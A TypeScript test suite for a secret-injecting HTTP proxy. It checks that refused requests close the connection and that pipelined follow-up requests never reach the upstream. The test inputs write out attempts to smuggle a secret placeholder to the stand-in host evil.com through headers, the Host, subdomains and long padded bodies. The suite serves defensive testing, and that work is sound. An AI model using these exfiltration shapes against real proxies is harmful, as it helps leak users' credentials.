// After any refusal (403, 413, 407 inside a tunnel) the connection closes and nothing pipelined
// behind the refused request is processed: inside a tunnel and on the plain-http proxy port.
import net from 'node:net';
import type tls from 'node:tls';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { agentWithToken, ok } from '../agents/helpers.js';
import { agentWith, allUpstreamBytes, proxyAddr, startWorld, tunnel, type AgentFx, type World } from './helpers.js';

let w: World;
let fx: AgentFx;
beforeAll(async () => {
  w = await startWorld({ env: { VAULTGATE_PROXY_MAX_BUFFERED_BODY: '4096' } });
  // Header and body at api.stripe.com: bodies there are held (so 413 past 4096 bytes).
  fx = await agentWith(w.s, [{ key: 'K', value: 'pipelined-value-Pl77', allowed_domains: ['api.stripe.com'], inject_in: ['header', 'body'] }]);
});
afterAll(() => w.close());
beforeEach(() => w.up.reset());

let seq = 0;
/** Status codes of every response in `out` (a response may follow a body without a line break). */
const statuses = (out: string) => [...out.matchAll(/HTTP\/1\.1 (\d{3}) /g)].map((m) => Number(m[1]));
const basic = (auth: string) => `Basic ${Buffer.from(auth).toString('base64')}`;

/** Writes `bytes` at once; resolves with what came back and whether the proxy closed within `ms`. */
function exchange(sock: net.Socket | tls.TLSSocket, bytes: string, ms = 3000): Promise<{ out: string; closed: boolean }> {
  return new Promise((resolve) => {
    const parts: Buffer[] = [];
    const done = (closed: boolean) => {
      clearTimeout(timer);
      sock.destroy();
      resolve({ out: Buffer.concat(parts).toString('latin1'), closed });
    };
    const timer = setTimeout(() => done(false), ms);
    sock.on('data', (d: Buffer) => parts.push(d)).once('end', () => done(true)).once('close', () => done(true)).once('error', () => undefined);
    sock.write(bytes);
  });
}

/** The second request of the pair never reached the upstream, in any form. */
async function secondNeverSent(marker: string) {
  await new Promise((r) => setTimeout(r, 150));
  expect(w.up.requests.filter((r) => r.url.includes(marker))).toEqual([]);
  expect(allUpstreamBytes(w.up)).not.toContain(marker);
}

describe('inside a tunnel', () => {
  const ph = () => fx.ph.K;
  const cases: [string, string, () => string, number][] = [
    ['rewrite refusal: a surface the secret may not use', 'api.stripe.com', () => `GET /q?k=${ph()} HTTP/1.1\r\nHost: api.stripe.com\r\n\r\n`, 403],
    ['rewrite refusal: a host the secret may not reach', 'evil.com', () => `GET /x HTTP/1.1\r\nHost: evil.com\r\nAuthorization: Bearer ${ph()}\r\n\r\n`, 403],
    ['tunnel check refusal: another Host', 'api.stripe.com', () => 'GET /x HTTP/1.1\r\nHost: evil.com\r\n\r\n', 403],
    ['tunnel check refusal: a placeholder in the Host', 'api.stripe.com', () => `GET /x HTTP/1.1\r\nHost: ${ph()}.evil.com\r\n\r\n`, 403],
    ['body block within the look-ahead', 'evil.com', () => `POST /x HTTP/1.1\r\nHost: evil.com\r\nContent-Length: 45\r\n\r\n${ph()}`, 403],
    ['body block past the look-ahead (streamed)', 'evil.com', () => `POST /x HTTP/1.1\r\nHost: evil.com\r\nContent-Length: 70045\r\n\r\n${'s'.repeat(70_000)}${ph()}`, 403],
    ['413: a held body over the limit', 'api.stripe.com', () => `POST /x HTTP/1.1\r\nHost: api.stripe.com\r\nContent-Length: 5000\r\n\r\n${'b'.repeat(5000)}`, 413],
  ];
  for (const [name, host, first, status] of cases) {
    it(`${name}: one ${status}, then EOF; the pipelined GET is never sent`, async () => {
      const marker = `/second-tunnel-${++seq}`;
      const sock = await tunnel(w.s, fx, `${host}:443`);
      const { out, closed } = await exchange(sock, `${first()}GET ${marker} HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
      expect([statuses(out), closed], out).toEqual([[status], true]);
      expect(out).toMatch(/\r\nconnection: close\r\n/i);
      await secondNeverSent(marker);
    });
  }

  it('auth failure (token revoked while the tunnel is open): one 407, then EOF', async () => {
    const { agent, token, tokenId } = await agentWithToken(w.s, { name: `pipelined-revoked-${Date.now()}`, vault_ids: [fx.vaultId] });
    const sock = await tunnel(w.s, { auth: `${agent.id}:${token}`, ca: fx.ca }, 'evil.com:443');
    await ok(w.s.call('DELETE', `/agents/${agent.id}/tokens/${tokenId}`), 204);
    const marker = `/second-tunnel-${++seq}`;
    const { out, closed } = await exchange(sock, `GET /x HTTP/1.1\r\nHost: evil.com\r\n\r\nGET ${marker} HTTP/1.1\r\nHost: evil.com\r\n\r\n`);
    expect([statuses(out), closed], out).toEqual([[407], true]);
    await secondNeverSent(marker);
  });

  it('control: two innocent pipelined requests are both answered, in order', async () => {
    const sock = await tunnel(w.s, fx, 'evil.com:443');
    const { out } = await exchange(sock, 'GET /one HTTP/1.1\r\nHost: evil.com\r\n\r\nGET /two HTTP/1.1\r\nHost: evil.com\r\nConnection: close\r\n\r\n');
    expect(statuses(out), out).toEqual([200, 200]);
    expect(w.up.requests.map((r) => r.url)).toEqual(['/one', '/two']);
  });
});

describe('on the plain-http proxy port (absolute form)', () => {
  const auth = () => `Proxy-Authorization: ${basic(fx.auth)}\r\n`;
  const cases: [string, () => string][] = [
    ['a placeholder in a header of plain http', () => `GET http://evil.com/x HTTP/1.1\r\nHost: evil.com\r\n${auth()}X-K: ${fx.ph.K}\r\n\r\n`],
    ['a placeholder in the destination', () => `GET http://${fx.ph.K}.evil.com/x HTTP/1.1\r\nHost: evil.com\r\n${auth()}\r\n`],
    ['a placeholder in the body', () => `POST http://evil.com/x HTTP/1.1\r\nHost: evil.com\r\n${auth()}Content-Length: 45\r\n\r\n${fx.ph.K}`],
  ];
  for (const [name, first] of cases) {
    it(`${name}: one 403, then EOF; the pipelined GET is never sent`, async () => {
      const marker = `/second-plain-${++seq}`;
      const { host, port } = proxyAddr(w.s);
      const sock = net.connect(port, host);
      await new Promise((r) => sock.once('connect', r));
      const { out, closed } = await exchange(sock, `${first()}GET http://evil.com${marker} HTTP/1.1\r\nHost: evil.com\r\n${auth()}\r\n`);
      expect([statuses(out), closed], out).toEqual([[403], true]);
      await secondNeverSent(marker);
    });
  }
});
